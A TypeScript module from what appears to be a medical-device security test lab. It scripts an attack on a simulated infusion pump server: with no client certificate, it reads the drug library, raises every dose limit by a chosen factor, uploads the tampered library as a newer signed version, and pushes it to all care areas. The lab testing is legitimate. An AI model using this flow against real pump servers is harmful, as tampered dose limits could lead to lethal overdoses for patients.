import { z } from 'zod';
import { drugLibrarySchema, type DrugLibrary } from '../../simulators/contract/drug-library.ts';
import { compareVersions } from '../../simulators/pump/firmware-catalog.ts';
import { sampleDrugLibrary } from '../../simulators/pump/sample-drug-library.ts';
import { commandOutcomeSchema } from '../../simulators/pump-server/release-store.ts';
import type { Endpoint } from '../engine/lab-under-test.ts';
import type { Action, ClientEvidence } from './action.ts';
import { problemCode, requestHttps, type HttpsAnswer } from './clients/https-json.ts';
import { connectionChannel, evidence, evidenceCodes, report } from './evidence.ts';
import { addressOf, endpointFor } from './targets.ts';
import { nextVersion, tamperedLibrary } from './tampered-packages.ts';

const params = z.strictObject({
  /** Every hard and soft maximum and each area's maximum rate is multiplied by this. */
  raiseLimitsFactor: z.number().min(1).max(100),
});

/** The pump server's drug library API (simulators/pump-server/rest/drug-libraries-router.ts). */
const api = '/api/v1/drug-libraries';
const listSchema = z.object({ items: z.array(z.object({ version: z.string() })) });
const pumpListSchema = z.object({ items: z.array(z.object({ libraryVersion: z.string().nullable() })) });
const distributionSchema = z.object({ results: z.array(commandOutcomeSchema) });

/**
 * Vendor remote access abused (ICSMA-23-194-01: a tampered library distributed to pumps): over
 * HTTPS to the pump server's REST API with no client certificate, the attacker reads the current
 * library, raises its limits, uploads it as the next version above every one published or running
 * (the server signs whatever it is given) and distributes it to every care area. Done when the server accepted the upload (2xx).
 */
export const restPublishLibrary: Action<typeof params> = {
  name: 'rest-publish-library',
  summary: 'Uploads a drug library with raised limits through the pump server API and distributes it.',
  params,
  async run(context, { raiseLimitsFactor }) {
    const reached = endpointFor(context, 'rest');
    if (!reached.ok) return report('blocked', 'The pump server API is out of reach.', [reached.evidence]);
    const { endpoint } = reached;
    const from = context.attacker.address;
    const where = addressOf(endpoint);
    const listed = await requestHttps(endpoint, from, { method: 'GET', path: api });
    if (!listed.ok)
      return blocked(connectionChannel(listed.code), listed.code, `list: ${listed.line}`, where);
    if (listed.status !== 200)
      return blocked('https', problemCode(listed), 'the library list was refused', where);
    const versions = listSchema.safeParse(parseJson(listed.body));
    const known = versions.success ? versions.data.items.map((item) => item.version) : [];
    const base = (await currentLibrary(endpoint, from, known)) ?? sampleDrugLibrary;
    // Above what the server published and what the pumps run (a library loaded at the factory too).
    const version = nextVersion([...known, ...(await runningVersions(endpoint, from))]);
    const upload = JSON.parse(tamperedLibrary(raiseLimitsFactor, version, base).toString('utf8')) as unknown;
    const created = await requestHttps(endpoint, from, { method: 'POST', path: api, json: upload });
    if (!created.ok)
      return blocked(connectionChannel(created.code), created.code, `upload: ${created.line}`, where);
    if (created.status < 200 || created.status > 299) {
      return blocked('https', problemCode(created), 'the upload was refused', where);
    }
    const items: ClientEvidence[] = [
      evidence('https', evidenceCodes.accepted, `library ${version} created and signed`, where),
    ];
    for (const careArea of base.careAreas.map((area) => area.id)) {
      const path = `${api}/${version}/distributions`;
      items.push(
        ...distributionEvidence(
          await requestHttps(endpoint, from, { method: 'POST', path, json: { careArea } }),
          careArea,
        ),
      );
    }
    return report(
      'done',
      `The pump server accepted drug library ${version} with limits ×${raiseLimitsFactor}.`,
      items,
    );
  },
};

/** The highest published library, as signed; undefined when there is none or it cannot be read. */
async function currentLibrary(
  endpoint: Endpoint,
  from: string,
  versions: string[],
): Promise<DrugLibrary | undefined> {
  const latest = [...versions].sort(compareVersions).at(-1);
  if (!latest) return undefined;
  const answer = await requestHttps(endpoint, from, { method: 'GET', path: `${api}/${latest}?part=library` });
  if (!answer.ok || answer.status !== 200) return undefined;
  const parsed = drugLibrarySchema.safeParse(parseJson(answer.body));
  return parsed.success ? parsed.data : undefined;
}

/** One item per pump outcome of a distribution (ACCEPTED, or the pump's or server's reason). */
/** The library versions the pump server's inventory says its pumps run. */
async function runningVersions(endpoint: Endpoint, from: string): Promise<(string | null)[]> {
  const answer = await requestHttps(endpoint, from, { method: 'GET', path: '/api/v1/pumps' });
  if (!answer.ok || answer.status !== 200) return [];
  const parsed = pumpListSchema.safeParse(parseJson(answer.body));
  return parsed.success ? parsed.data.items.map((pump) => pump.libraryVersion) : [];
}

function distributionEvidence(sent: HttpsAnswer, careArea: string): ClientEvidence[] {
  if (!sent.ok)
    return [evidence(connectionChannel(sent.code), sent.code, `distribution to ${careArea}: ${sent.line}`)];
  if (sent.status < 200 || sent.status > 299) {
    return [evidence('https', problemCode(sent), `distribution to ${careArea} refused`)];
  }
  const parsed = distributionSchema.safeParse(parseJson(sent.body));
  if (!parsed.success)
    return [evidence('https', `HTTP-${sent.status}`, `distribution to ${careArea} answered`)];
  return parsed.data.results.map((result) =>
    result.outcome === 'accepted'
      ? evidence('https', evidenceCodes.accepted, `pump installed it (${careArea})`, result.serial)
      : evidence(
          'https',
          result.reason ?? result.outcome.toUpperCase(),
          `pump did not install it (${careArea})`,
          result.serial,
        ),
  );
}

function blocked(channel: string, code: string, line: string, where: string): ReturnType<Action['run']> {
  const item = evidence(channel, code, line, where);
  return Promise.resolve(report('blocked', 'The pump server API refused the attacker.', [item]));
}

function parseJson(body: Buffer): unknown {
  try {
    return JSON.parse(body.toString('utf8')) as unknown;
  } catch {
    return undefined;
  }
}
